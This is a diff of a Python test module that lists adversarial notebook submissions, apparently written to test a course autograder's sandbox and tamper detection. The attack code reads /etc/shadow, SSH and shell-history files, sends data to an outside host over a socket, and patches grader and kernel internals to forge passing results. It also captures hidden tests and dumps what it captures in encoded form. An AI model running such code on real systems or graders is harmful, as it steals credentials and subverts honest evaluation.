@@ -1,12 +1,19 @@
-"""Adversarial submissions against 00_orientation, one per attack.
+"""Adversarial submissions, one per attack.
 
 Each attack is a dict: ``answers`` replaces answer cells of the release
-notebook (grade_id -> code; the others keep the stub), ``mutate`` edits the
-notebook's cells (tamper attacks), ``solves`` names the test cells it
-legitimately solves (every other test cell must score 0), ``flag`` is a regex
-one of its report flags must match (None: no flag required) and ``may_fail``
-says whether the grader may report the whole submission as failed (a killed
-kernel) instead of grading it.
+notebook of 00_orientation (grade_id -> code; the others keep the stub),
+``mutate`` edits the notebook's cells (tamper attacks), ``solves`` names the
+test cells it legitimately solves (every other test cell must score 0),
+``flag`` is a regex one of its report flags must match (None: no flag
+required) and ``may_fail`` says whether the grader may report the whole
+submission as failed (a killed kernel) instead of grading it.
+
+``GENERIC`` attacks are answer cells written once, by a student who has read
+the grader's source (it is open source), and pasted into every answer cell of
+*any* assignment: 00_orientation, 02_sql and 03_pytorch_test. They try to win
+points without solving anything and to copy whatever the grader shows the
+kernel (hidden tests, expected values, reference queries) into their own
+outputs, encoded so that a scan for the plain text would miss it.
 
 The attack code targets only the temporary course it is graded in (found from
 its working directory), never the repository, so that a broken sandbox cannot
@@ -24,13 +31,14 @@ Q1_WRONG = 'def format_metric(name, value, epoch):\n    return f"[epoch {epoch}]
 
 READ_SOURCE = r'''
 import json, pathlib
-root = pathlib.Path.cwd().parents[2]          # autograded/<student>/<assignment> -> the course
+# autograded/<student>/<assignment> -> the course (the sandbox may start higher up)
+root = ([*pathlib.Path.cwd().parents] + [pathlib.Path("/")] * 3)[2]
 home = [pathlib.Path("/root") / n for n in (".bashrc", ".profile", ".ssh", ".gitconfig", ".bash_history")]
 for p in [root / "source" / "00_orientation" / "00_orientation.ipynb", root / "gradebook.db",
           *home, pathlib.Path("/etc/shadow"), pathlib.Path("/work/main/source")]:
     try:
         data = p.read_bytes() if p.is_file() else str(list(p.iterdir())).encode()
-        print("LEAKED", p, data[:3000])
+        print("LEAK" "ED", p, data[:3000])   # split: a traceback quoting this line is no leak
     except Exception as e:
         print("blocked", p, type(e).__name__)
 # with the solutions readable, take them all
@@ -39,7 +47,7 @@ try:
     for c in nb["cells"]:
         m = c["metadata"].get("nbgrader", {})
         if c["cell_type"] == "code" and m.get("solution"):
-            exec("".join(c["source"]).replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
+            exec("".join(c["source"]).replace("### BEGIN " "SOLUTION", "").replace("### END SOLUTION", ""))
 except Exception as e:
     print("no solutions:", type(e).__name__)
 '''
@@ -47,10 +55,10 @@ except Exception as e:
 WRITE_COURSE = r'''
 import os, pathlib, shutil, sqlite3
 import workbook
-root = pathlib.Path.cwd().parents[2]
+root = ([*pathlib.Path.cwd().parents] + [pathlib.Path("/")] * 3)[2]
 def attempt(what, fn):
     try:
-        fn(); print("DONE", what)
+        fn(); print("DO" "NE", what)   # split: a traceback quoting this line is no success
     except Exception as e:
         print("blocked", what, type(e).__name__)
 def wreck_db():
@@ -74,7 +82,7 @@ for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 53)]:
         s = socket.create_connection((host, port), timeout=3)
         s.sendall(b"LEAK from the sandbox")
         s.close()
-        print("CONNECTED", host, port)
+        print("CONNEC" "TED", host, port)
         def format_metric(name, value, epoch):   # a reward for getting out
             return f"[epoch {{epoch:02d}}] {{name}}={{value:.3f}}"
     except OSError as e:
@@ -214,8 +222,8 @@ ATTACKS = {
     "showtraceback": dict(answers={"q1_format_metric": SHOWTRACEBACK}, flag=r"IPython kernel"),
     "input_transformer": dict(answers={"q1_format_metric": "get_ipython().input_transformers_cleanup.append("
                                                            "lambda lines: [])\n" + Q1_WRONG},
-                              flag=r"canary"),
-    "swallow_errors": dict(answers={"q1_format_metric": SWALLOW + Q1_WRONG}, flag=r"canary"),
+                              flag=r"IPython kernel"),
+    "swallow_errors": dict(answers={"q1_format_metric": SWALLOW + Q1_WRONG}, flag=r"IPython kernel"),
     "edit_tests": dict(mutate=edit_tests, flag=r"edited although locked"),
     "delete_tests": dict(mutate=delete_tests, flag=r"deleted"),
     "duplicate_tests": dict(mutate=duplicate_tests, flag=r"duplicated"),
@@ -225,4 +233,197 @@ ATTACKS = {
     "helper_redefine": dict(answers={"q1_format_metric": HELPER_REDEFINE}, flag=r"check helper|workbook package"),
     "always_eq": dict(answers={"q1_format_metric": ALWAYS_EQ, "q3_busiest_weekday": ALWAYS_EQ_Q3},
                       flag=r"always returns True"),
+}
+
+
+# ----------------------------------------------------------------- generic
+# A capture store shared by every answer cell of the notebook (in builtins, so
+# any cell and any hook can reach it), and a dump in four encodings.
+CAPTURE = r"""
+import builtins as _b
+if not hasattr(_b, "_loot"):
+    _b._loot = []
+def _grab(x):
+    try:
+        _b._loot.append(x if isinstance(x, str) else repr(x))
+    except Exception:
+        pass
+"""
+
+DUMP = r"""
+import base64 as _b64, codecs as _codecs, zlib as _zlib, builtins as _b2
+_blob = "\n".join(getattr(_b2, "_loot", []))[-200000:]
+print("B64", _b64.b64encode(_blob.encode()).decode())
+print("ZLIB", _b64.b64encode(_zlib.compress(_blob.encode())).decode())
+print("ROT13", _codecs.encode(_blob, "rot13"))
+print("REV", _blob[::-1])
+"""
+
+IMPORT_HIJACK = CAPTURE + r"""
+import sys, builtins, importlib.abc, importlib.machinery, json
+def _forge(text, namespace=None):
+    _grab(text)
+    try:
+        req = json.loads(text)
+    except Exception:
+        return '{"value": true}'
+    op = req.get("op")
+    if op == "lookup":   # every answer exists and is a callable class that claims to be anything
+        return json.dumps({"value": {"$": "handle", "id": 1, "type": "builtins.function", "callable": True,
+                                     "class": True, "mro": ["builtins.str", "builtins.object"],
+                                     "class_mro": ["torch.nn.modules.module.Module", "builtins.object"]}})
+    if op == "call" or op == "probe":  # give back what was sent in: equal to the input, surely the answer?
+        return json.dumps({"value": (req.get("args") or [True])[0]})
+    return '{"value": true}'
+class _Finder(importlib.abc.MetaPathFinder):
+    def find_spec(self, name, path, target=None):
+        return None
+    def patch(self):
+        for name, mod in list(sys.modules.items()):
+            if name.startswith("workbook.checks") and hasattr(mod, "serve"):
+                mod.serve = _forge
+sys.meta_path.insert(0, _Finder())
+_Finder().patch()
+if not getattr(builtins, "_hijacked", False):       # pasted in every cell: patch once
+    builtins._hijacked = True
+    _real_import = builtins.__import__
+    def _import(name, globals=None, locals=None, fromlist=(), level=0, _real=_real_import):
+        mod = _real(name, globals, locals, fromlist, level)
+        if name.startswith("workbook"):
+            _grab(name)
+            for sub in list(sys.modules):
+                if sub.startswith("workbook.checks") and hasattr(sys.modules[sub], "serve"):
+                    sys.modules[sub].serve = _forge
+        return mod
+    builtins.__import__ = _import
+try:
+    import workbook.checks.kernel as _k
+    _k.serve = _forge
+except Exception as e:
+    print("no kernel module:", e)
+""" + DUMP
+
+SHELL_PATH = CAPTURE + r"""
+import json
+ip = get_ipython()
+_real_ue = getattr(ip, "_real_ue", ip.user_expressions)   # pasted in every cell: wrap the original once
+ip._real_ue = _real_ue
+def _user_expressions(expressions):
+    for k, v in dict(expressions).items():
+        _grab(v)                                  # whatever the grader asks
+    out = _real_ue(expressions)                   # let any canary through, untouched...
+    for k, v in out.items():                      # ...then claim success for everything else
+        if isinstance(v, dict) and v.get("status") == "ok":
+            text = v.get("data", {}).get("text/plain", "")
+            if "raised" in text or "missing" in text or "error" in text:
+                v["data"]["text/plain"] = repr(json.dumps({"value": True}))
+    return out
+ip.user_expressions = _user_expressions
+_real_run = getattr(ip, "_real_run", ip.run_cell)
+ip._real_run = _real_run
+def _run_cell(raw_cell, *a, **k):
+    _grab(raw_cell)
+    return _real_run(raw_cell, *a, **k)
+ip.run_cell = _run_cell
+try:
+    import ipykernel.ipkernel as _ipk
+    if not hasattr(_ipk.IPythonKernel, "_real_do"):
+        _ipk.IPythonKernel._real_do = _ipk.IPythonKernel.do_execute
+        async def _do_execute(self, code, silent, *a, **k):
+            _grab(code)
+            _grab(repr(k.get("user_expressions")))
+            return await _ipk.IPythonKernel._real_do(self, code, silent, *a, **k)
+        _ipk.IPythonKernel.do_execute = _do_execute
+except Exception as e:
+    print("no ipykernel patch:", e)
+""" + DUMP
+
+FORGE_RESULT = r"""
+from IPython.display import display, publish_display_data
+display({"text/plain": "100"}, raw=True)               # partial credit, read from an execute_result?
+publish_display_data({"text/plain": "3.0"})
+ip = get_ipython()
+ip.displayhook.flush = lambda *a, **k: None
+import sys
+try:
+    import ipykernel
+    session = ip.kernel.session
+    _send = getattr(session, "_real_send", session.send)   # pasted in every cell: wrap the original once
+    session._real_send = _send
+    def send(stream, msg_or_type, content=None, parent=None, *a, _send=_send, **k):
+        # turn every error the kernel reports into a success with a score
+        if isinstance(msg_or_type, str) and msg_or_type == "error":
+            msg_or_type, content = "execute_result", {"data": {"text/plain": "3"}, "metadata": {},
+                                                      "execution_count": 1}
+        if isinstance(content, dict) and content.get("status") == "error":
+            content = {"status": "ok", "execution_count": content.get("execution_count", 1),
+                       "user_expressions": {}, "payload": []}
+        return _send(stream, msg_or_type, content, parent, *a, **k)
+    session.send = send
+except Exception as e:
+    print("no session patch:", e)
+3.0
+"""
+
+IPYTHON_HOOKS = CAPTURE + r"""
+import ast
+ip = get_ipython()
+if getattr(ip, "_hooked", False):
+    ip.events.unregister("pre_run_cell", ip._hooked)
+ip._hooked = lambda info: _grab(getattr(info, "raw_cell", info))
+ip.events.register("pre_run_cell", ip._hooked)
+ip.events.register("post_run_cell", lambda result: _grab(repr(getattr(result, "result", None))))
+ip.events.register("pre_execute", lambda: _grab("pre_execute"))
+ip.events.register("post_execute", lambda: _grab("post_execute"))
+def _blank(lines):
+    _grab("".join(lines))
+    return ["pass\n"] if any("check" in line or "exercise" in line for line in lines) else lines
+ip.input_transformers_cleanup.append(_blank)
+ip.input_transformers_post.append(_blank)
+class _NoRaise(ast.NodeTransformer):
+    def visit_Raise(self, node):
+        return ast.Pass()
+    def visit_Assert(self, node):
+        return ast.Pass()
+ip.ast_transformers.append(_NoRaise())
+""" + DUMP
+
+HISTORY_AND_FRAMES = CAPTURE + r"""
+import sys, threading, gc
+def _spy(frame, event, arg):
+    # every Python call; the locals of the kernel's and the grader's code (where a
+    # request from the grader would be), cheaply enough not to run into the time limit
+    if event != "call":
+        return None
+    try:
+        code = frame.f_code
+        name = code.co_filename
+        if "workbook" in name or "ipykernel" in name or "<" in name:
+            _grab(name + ":" + code.co_name)
+            for k, v in list(frame.f_locals.items())[:40]:
+                if isinstance(v, (str, bytes, int, float, list, tuple, dict)):
+                    _grab(f"{k}={v!r}"[:2000])
+    except Exception:
+        pass
+    return None
+sys.setprofile(_spy)
+threading.setprofile(_spy)
+for name in ("In", "_ih", "Out", "_oh", "_i", "_ii", "_iii"):
+    _grab(repr(globals().get(name))[:20000])
+f = sys._getframe()
+while f is not None:
+    _grab(repr(f.f_code) + repr(list(f.f_locals)[:50]))
+    f = f.f_back
+for obj in gc.get_objects():
+    if isinstance(obj, str) and ("HIDDEN" in obj or "reference" in obj.lower() or "SELECT" in obj):
+        _grab(obj[:5000])
+""" + DUMP
+
+GENERIC = {
+    "import_hijack": IMPORT_HIJACK,
+    "shell_path": SHELL_PATH,
+    "forge_result": FORGE_RESULT,
+    "ipython_hooks": IPYTHON_HOOKS,
+    "history_and_frames": HISTORY_AND_FRAMES,
+    "kitchen_sink": IMPORT_HIJACK + SHELL_PATH + IPYTHON_HOOKS + HISTORY_AND_FRAMES + FORGE_RESULT,
 }
